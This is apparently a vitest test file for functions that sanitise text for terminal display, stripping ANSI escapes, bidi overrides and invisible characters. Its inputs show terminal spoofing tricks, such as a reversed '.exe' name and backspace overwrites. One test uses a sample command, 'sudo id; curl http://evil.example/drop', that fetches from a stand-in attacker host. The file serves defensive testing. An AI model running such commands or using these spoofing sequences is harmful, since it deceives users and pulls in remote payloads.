import fc from 'fast-check';
import { expect, test } from 'vitest';
import { printable, printableLines } from '../../src/base/printable.ts';

test.each([
  ['colours', '\u001b[31mred\u001b[0m', 'red'],
  ['a window title', 'a\u001b]0;title\u0007b', 'a\\u{1b}]0;title\\u{7}b'],
  [
    'a hyperlink',
    '\u001b]8;;https://example.org\u001b\\link\u001b]8;;\u001b\\',
    '\\u{1b}]8;;https://example.org\\u{1b}\\link\\u{1b}]8;;\\u{1b}\\',
  ],
  ['an eight-bit escape', 'a\u009b31mb', 'a\\u{9b}31mb'],
  ['a cursor that moves back', 'safe\b\brisk', 'safe\\u{8}\\u{8}risk'],
  ['letters that look like spaces', 'Pass\u3164\u2800\u115fRisky', 'Pass Risky'],
  ['a line that overwrites itself', 'Risky\rPass', 'Risky Pass'],
  ['a reversed direction', 'photo\u202egpj.exe', 'photogpj.exe'],
  ['characters without width', 'pay\u200bpal\ufeff', 'paypal'],
  ['spaces around invisible characters', 'a \u200b b', 'a b'],
  ['several lines', ' one\n\n\ttwo\u2028three ', 'one two three'],
])('the output is harmless for %s', (_case, text, shown) => {
  expect(printable(text)).toBe(shown);
});

test.each(['\u001b]', '\u001bP', '\u001b_', '\u009d', '\u001b[', '\u001b[31m'])(
  'no visible text is lost between %j and a terminator',
  (begin) => {
    const deed = 'sudo id; curl http://evil.example/drop';
    for (const end of ['\u0007', '\u001b\\', '\u009c', 'm']) {
      expect(printable(`a${begin}${deed}${end}b`)).toContain(deed);
      expect(printableLines(`a${begin}\n${deed}\n${end}b`)).toContain(deed);
    }
  },
);

test('ordinary text of any script stays as it is', () => {
  for (const text of [
    'naïve café',
    '表計算を整える',
    'тест',
    '✓ 🎉',
    '39\u00a0s',
    'a "quoted" <tag> & more',
  ]) {
    expect(printable(text)).toBe(text);
  }
});

test('any input becomes one visible line', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(printable(text)).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
    }),
  );
});

test('text that is already printable does not change', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(printable(printable(text))).toBe(printable(text));
    }),
  );
});

test('printableLines keeps line breaks and indentation, and drops whatever acts on a terminal', () => {
  const text = 'if a:\r\n\tb  = 1 \n  c\td\u001b[2J\u202e\rnext\u2028last\n';
  expect(printableLines(text)).toEqual([
    'if a:',
    '        b  = 1',
    '  c     d\\u{1b}[2J',
    'next',
    'last',
    '',
  ]);
});

test('any input becomes visible lines', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(printableLines(text).join('')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u);
    }),
  );
});
